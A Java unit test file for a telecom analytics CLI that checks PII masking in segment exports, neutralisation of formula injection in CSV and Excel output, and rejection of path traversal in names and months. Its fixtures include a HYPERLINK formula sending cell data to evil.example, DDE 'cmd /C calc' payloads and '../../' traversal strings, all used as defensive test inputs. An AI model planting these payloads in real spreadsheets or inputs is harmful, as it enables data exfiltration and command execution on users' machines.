package io.tiercube.jobs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 8, part 4: segment exports from the command line mask personal data unless --include-pii,
 * and no cell of a CSV or Excel export is a formula, even when a customer's name, district or outlet
 * in the operator's file starts with = + - @, a tab or a carriage return. Paths built from user text
 * (segment and cube names, months) cannot leave their directory.
 */
class ExportSafetyTest {

    /** Names a spreadsheet would run as formulas (DDE and hyperlink payloads among them). */
    static final List<String> NAMES = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "张三", "Bob");
    static final List<String> MSISDNS = List.of("13812340001", "13912340002", "15012340003", "15112340004", "18612340005",
            "18712340006", "13312340007", "17712340008");
    static final Pattern ELEVEN = Pattern.compile("(?<![0-9A-Za-z])1\\d{10}(?![0-9A-Za-z])");

    @TempDir
    static Path dir;
    static String wh;

    @BeforeAll
    static void warehouse() throws IOException {
        Path data = dir.resolve("in");
        Files.createDirectories(data.resolve("usage"));
        StringBuilder c = new StringBuilder("customer_id,msisdn,name,gender,birth_date,occupation,income_band,education,province,"
                + "city,district,segment,join_date,plan_id,plan_fee,channel_type,channel,status,closed_date\n");
        for (int i = 0; i < NAMES.size(); i++) {
            c.append("C").append(i).append(',').append(MSISDNS.get(i)).append(',').append(csv(NAMES.get(i)))
                    .append(",F,1985-03-1").append(i).append(",,,,Sichuan,Chengdu,")
                    .append(i == 0 ? "@district" : "Wuhou").append(",mass_market,2020-01-01,")
                    .append(i == 1 ? csv("=cmd|'/C calc'!A0") : "P1").append(",59.00,store,S1,active,\n");
        }
        Files.writeString(data.resolve("customers.csv"), c);
        for (LocalDate day = LocalDate.of(2026, 10, 30); !day.isAfter(LocalDate.of(2026, 10, 31)); day = day.plusDays(1)) {
            StringBuilder u = new StringBuilder("record_id,customer_id,event_time,service,call_type,product,duration_s,volume_mb,charge,other_party\n");
            for (int i = 0; i < NAMES.size(); i++) {
                u.append(day).append('-').append(i).append(",C").append(i).append(',').append(day)
                        .append(" 10:00:00,voice,local,voice-local,60,0,").append(i + 1).append(".50,\n");
            }
            Files.writeString(data.resolve("usage").resolve(day + ".csv"), u);
        }
        Files.writeString(data.resolve("complaints.csv"), "ticket_id,customer_id,opened_at,category,resolved_at,satisfaction\n");
        wh = dir.resolve("wh").toString();
        CliRun n = CliRun.of("nightly", "--data", data.toString(), "--warehouse", wh);
        assertEquals(0, n.exit(), n.err());
    }

    static String csv(String v) {
        return "\"" + v.replace("\"", "\"\"") + "\"";
    }

    static CliRun export(Path out, String... extra) {
        List<String> args = new ArrayList<>(List.of("segment", "export", "--month", "2026-10", "--out", out.toString(), "--warehouse", wh));
        args.addAll(List.of(extra));
        return CliRun.of(args.toArray(String[]::new));
    }

    /** Every cell of a CSV the way a spreadsheet splits it. */
    static List<String> cells(String text) {
        List<String> out = new ArrayList<>();
        StringBuilder f = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char ch = text.charAt(i);
            if (quoted) {
                if (ch == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    f.append('"');
                    i++;
                } else if (ch == '"') {
                    quoted = false;
                } else {
                    f.append(ch);
                }
            } else if (ch == '"') {
                quoted = true;
            } else if (ch == ',' || ch == '\n') {
                out.add(f.toString());
                f.setLength(0);
            } else if (ch != '\r') {
                f.append(ch);
            }
        }
        return out;
    }

    static boolean formula(String cell) {
        return !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-?\\d+(\\.\\d+)?");
    }

    /** The text of every XML part of a workbook. */
    static String xlsxXml(Path xlsx) throws IOException {
        StringBuilder sb = new StringBuilder();
        try (ZipFile z = new ZipFile(xlsx.toFile())) {
            for (ZipEntry e : Collections.list(z.entries())) {
                try (InputStream in = z.getInputStream(e)) {
                    sb.append(new String(in.readAllBytes(), StandardCharsets.UTF_8));
                }
            }
        }
        return sb.toString();
    }

    /** The text cells of a workbook (shared strings or inline strings), unescaped. */
    static List<String> xlsxCells(String xml) {
        List<String> out = new ArrayList<>();
        Matcher m = Pattern.compile("<t(?: [^>]*)?>([^<]*)</t>").matcher(xml);
        while (m.find()) {
            out.add(m.group(1).replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'")
                    .replace("&#9;", "\t").replace("&#13;", "\r").replace("&#xD;", "\r").replace("&#x9;", "\t").replace("&amp;", "&"));
        }
        return out;
    }

    @Test
    void csvExportMasksPiiAndNoCellIsAFormula() throws IOException {
        Path out = dir.resolve("out/all.csv");
        CliRun r = export(out);
        assertEquals(0, r.exit(), r.err());
        assertTrue(r.out().contains("PII masked"), r.out());
        String text = Files.readString(out);
        assertEquals(NAMES.size() + 1, text.lines().filter(l -> l.startsWith("C") || l.startsWith("customer_id")).count(), text);
        assertFalse(ELEVEN.matcher(text).find(), "no full msisdn:\n" + text);
        for (String m : MSISDNS) {
            assertTrue(text.contains(m.substring(0, 3) + "****" + m.substring(7)), m);
        }
        assertFalse(text.contains("1985-03-1"), "birth dates keep only the year");
        assertFalse(text.contains("张三") || text.contains("HYPERLINK") || text.contains("Bob"), "names keep only the first character");
        for (String cell : cells(text)) {
            assertFalse(formula(cell), "formula cell " + cell);
        }
        assertTrue(cells(text).contains("'@district"), "a district starting with @ is neutralised too");
    }

    @Test
    void includePiiKeepsTheDataButStillNeutralisesEveryFormula() throws IOException {
        Path out = dir.resolve("out/pii.csv");
        CliRun r = export(out, "--include-pii");
        assertEquals(0, r.exit(), r.err());
        assertTrue(r.out().contains("PII INCLUDED"), r.out());
        String text = Files.readString(out);
        for (String m : MSISDNS) {
            assertTrue(text.contains(m), m);
        }
        List<String> cells = cells(text);
        for (String cell : cells) {
            assertFalse(formula(cell), "formula cell " + cell);
        }
        assertTrue(cells.contains("'" + NAMES.get(0)), "the HYPERLINK name is kept as text:\n" + text);
        assertTrue(cells.contains("'-2+3") && cells.contains("'+cmd|' /C calc'!A0") && cells.contains("'=cmd|'/C calc'!A0"), text);
        assertTrue(cells.contains("张三"));
    }

    @Test
    void xlsxExportMasksPiiAndHasNoFormula() throws IOException {
        for (boolean pii : new boolean[] {false, true}) {
            Path out = dir.resolve("out/seg-" + pii + ".xlsx");
            CliRun r = pii ? export(out, "--include-pii") : export(out);
            assertEquals(0, r.exit(), r.err());
            String xml = xlsxXml(out);
            assertFalse(xml.contains("<f>") || xml.contains("<f "), "no formula element");
            assertEquals(!pii, !ELEVEN.matcher(xml).find(), "full msisdns only with --include-pii");
            for (String cell : xlsxCells(xml)) {
                assertFalse(formula(cell), "formula cell " + cell);
            }
            assertTrue(xlsxCells(xml).contains(pii ? "'" + NAMES.get(0) : "'=" + "*".repeat(NAMES.get(0).length() - 1)), xml);
        }
    }

    @Test
    void segmentNamesCannotNameAPathOutsideTheExportsDirectory() throws IOException {
        Path segments = dir.resolve("segments.yaml");
        Files.writeString(segments, "segments:\n  vip:\n    description: all\n    filter: \"region.city=Chengdu\"\n");
        for (String name : List.of("../../escape", "/tmp/escape", "vip/../../escape", "..", "vip\u0000x")) {
            CliRun r = CliRun.of("segment", "export", "--month", "2026-10", "--segment", name, "--segments", segments.toString(),
                    "--warehouse", wh);
            assertEquals(ExitCodes.NOT_FOUND, r.exit(), name + ": " + r.err());
            assertTrue(r.err().contains("segments: vip"), r.err());
        }
        CliRun ok = CliRun.of("segment", "export", "--month", "2026-10", "--segment", "vip", "--segments", segments.toString(),
                "--warehouse", wh);
        assertEquals(0, ok.exit(), ok.err());
        assertTrue(Files.exists(Path.of(wh, "exports", "vip-2026-10.csv")));

        Files.writeString(segments, "segments:\n  ../../escape:\n    description: x\n    filter: \"tier=gold\"\n");
        CliRun bad = CliRun.of("segment", "export", "--month", "2026-10", "--segment", "../../escape", "--segments",
                segments.toString(), "--warehouse", wh);
        assertEquals(ExitCodes.BAD_CONFIG, bad.exit(), bad.err());
        assertTrue(bad.err().contains("not a valid segment name"), bad.err());
        assertFalse(Files.exists(dir.resolve("escape-2026-10.csv")) || Files.exists(Path.of(wh).getParent().resolve("escape-2026-10.csv")));
    }

    @Test
    void cubeNamesAndMonthsCannotBuildAPathOutsideTheWarehouse() throws IOException {
        for (String cube : List.of("../../etc", "/tmp/x", "usage/../../x", "Usage", "usage;drop")) {
            for (String cmd : List.of("drill", "explain")) {
                CliRun r = CliRun.of(cmd, cube, "--warehouse", wh);
                assertEquals(ExitCodes.BAD_QUERY, r.exit(), cmd + " " + cube + ": " + r.err());
                assertTrue(r.err().contains("must be snake_case"), r.err());
            }
            CliRun b = CliRun.of("cube", "build", "--cube", cube, "--warehouse", wh);
            assertEquals(ExitCodes.BAD_QUERY, b.exit(), "cube build --cube " + cube + ": " + b.err());
        }
        Path model = dir.resolve("evil.yaml");
        Files.writeString(model, Files.readString(Path.of(CubeCommandsTest.MODEL)).replace("name: usage", "name: ../../evil"));
        CliRun m = CliRun.of("cube", "build", "--model", model.toString(), "--warehouse", wh);
        assertEquals(ExitCodes.BAD_CONFIG, m.exit(), m.err());

        CliRun report = CliRun.of("report", "--month", "../../x", "--warehouse", wh);
        assertEquals(ExitCodes.BAD_QUERY, report.exit(), report.err());
        for (String cmd : List.of("segment build", "segment export", "tiers", "longtail", "drill usage")) {
            List<String> args = new ArrayList<>(List.of(cmd.split(" ")));
            args.addAll(List.of("--month", "../../2026-10", "--warehouse", wh));
            CliRun r = CliRun.of(args.toArray(String[]::new));
            assertEquals(ExitCodes.USAGE, r.exit(), cmd + ": " + r.err());
            assertTrue(r.err().contains("../../2026-10"), r.err());
        }
        try (Stream<Path> s = Files.list(dir)) {
            List<String> beside = s.map(p -> p.getFileName().toString()).toList();
            assertTrue(List.of("in", "out", "segments.yaml", "evil.yaml", "wh").containsAll(beside), "nothing written beside the warehouse: " + beside);
        }
    }
}
